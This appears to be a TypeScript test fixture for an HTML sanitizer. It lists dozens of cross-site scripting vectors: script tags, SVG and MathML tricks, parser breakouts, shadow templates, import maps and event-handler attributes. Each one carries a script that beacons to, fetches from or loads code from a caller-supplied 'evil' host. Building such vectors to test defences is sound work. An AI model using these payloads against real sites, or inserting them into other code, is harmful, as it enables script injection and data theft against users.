/** Any part of it that runs leaves a trace: a mark on a document, a call, or a window. */
export const hostileScript = (evil: string) =>
  `document.documentElement.dataset.ran=1;try{top.ran=parent.ran=1}catch{};new Image().src='${evil}/ran';fetch('${evil}/ran');alert(1);open('${evil}/opened')`

export const escapeAttribute = (text: string) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;')

export type Vector = [name: string, html: string]

export function scripts(evil: string): Vector[] {
  const run = hostileScript(evil)
  return [
    ['script', `<script>${run}</script>`],
    ['script in capitals', `<ScRiPt>${run}</sCrIpT>`],
    ['script with a slash', `<script/x>${run}</script>`],
    ['script from elsewhere', `<script src="${evil}/a.js"></script>`],
    ['module from elsewhere', `<script type="module" src="${evil}/a.js"></script>`],
    ['module that imports', `<script type="module">import '${evil}/a.js'</script>`],
    ['script without its end', `<script>${run}`],
    ['script after a broken tag', `<<script>${run}//<</script>`],
    ['script in SVG', `<svg><script>${run}</script></svg>`],
    ['script in SVG from elsewhere', `<svg><script href="${evil}/a.js"/></svg>`],
    ['script in SVG as CDATA', `<svg><script><![CDATA[${run}]]></script></svg>`],
    ['script in a foreign object', `<svg><foreignObject><script>${run}</script></foreignObject></svg>`],
    ['script in MathML', `<math><mtext><script>${run}</script></mtext></math>`],
    ['script out of a comment', `<!--><script>${run}</script>-->`],
    ['script out of a title', `<title></title><script>${run}</script></title>`],
    ['script out of a textarea', `<textarea></textarea><script>${run}</script></textarea>`],
    ['script out of a style', `<style></style><script>${run}</script></style>`],
    ['script in noscript', `<noscript><p title="</noscript><script>${run}</script>"></noscript>`],
    ['script in a template', `<template shadowrootmode="open"><script>${run}</script></template>`],
    [
      'script in a shadow host',
      `<div><template shadowrootmode="open"><img src=x onerror="${run}"></template></div>`,
    ],
    ['script in a table', `<table><tr><script>${run}</script></tr></table>`],
    ['script after a select', `<select><option></select><script>${run}</script>`],
    ['speculation rules', `<script type="speculationrules">{"prefetch":[{"urls":["${evil}/p"]}]}</script>`],
    [
      'import map',
      `<script type="importmap">{"imports":{"a":"${evil}/a.js"}}</script><script type="module">import "a"</script>`,
    ],
  ]
}

export function events(evil: string): Vector[] {
  const run = escapeAttribute(hostileScript(evil))
  const elements: Vector[] = [
    ['an image that fails', `<img src="x:x" onerror="${run}">`],
    ['an image that loads', `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${run}">`],
    ['an image without a space', `<img/src="x:x"/onerror="${run}">`],
    ['the body', `<body onload="${run}">`],
    ['the body when shown', `<body onpageshow="${run}">`],
    ['the body when left', `<body onbeforeunload="${run}" onunload="${run}">`],
    ['the body when focused', `<body onfocus="${run}" onblur="${run}">`],
    ['SVG', `<svg onload="${run}"></svg>`],
    ['SVG inside SVG', `<svg><g onload="${run}"></g><svg onload="${run}"></svg></svg>`],
    ['an animation of SVG', `<svg><animate onbegin="${run}" attributeName="x" dur="1s"></svg>`],
    ['a set of SVG', `<svg><set onbegin="${run}" onend="${run}" attributeName="x" to="1" dur="1ms"></svg>`],
    ['an image of SVG', `<svg><image href="x:x" onerror="${run}"></svg>`],
    ['a field with focus', `<input autofocus onfocus="${run}">`],
    ['a select with focus', `<select autofocus onfocus="${run}"></select>`],
    ['a textarea with focus', `<textarea autofocus onfocus="${run}"></textarea>`],
    ['a button with focus', `<button autofocus onfocus="${run}">Hello</button>`],
    ['editable text with focus', `<p contenteditable autofocus tabindex="0" onfocus="${run}">Hello</p>`],
    ['details', `<details open ontoggle="${run}"><summary>Hello</summary></details>`],
    ['a video', `<video src="x:x" onerror="${run}"></video>`],
    ['a source of a video', `<video><source src="x:x" onerror="${run}"></video>`],
    ['an audio', `<audio src="x:x" onerror="${run}" onloadstart="${run}"></audio>`],
    ['a marquee', `<marquee onstart="${run}" loop="1">Hello</marquee>`],
    ['a frame', `<iframe onload="${run}"></iframe>`],
    ['an object', `<object data="x:x" onerror="${run}"></object>`],
    ['an embedded thing', `<embed src="x:x" onload="${run}" onerror="${run}">`],
    ['a style', `<style onload="${run}">p { color: red }</style>`],
    ['a link element', `<link rel="stylesheet" href="data:text/css,p{}" onload="${run}" onerror="${run}">`],
    [
      'a CSS animation',
      `<style>@keyframes a{}</style><p style="animation: a 1ms" onanimationstart="${run}" onanimationend="${run}">Hello</p>`,
    ],
    ['a press', `<p id="bait" onclick="${run}" onpointerdown="${run}" onmouseover="${run}">Hello</p>`],
    ['a key', `<input id="bait" onkeydown="${run}" onclick="${run}" oninput="${run}">`],
  ]
  return elements.map(([name, html]) => [`event of ${name}`, html])
}
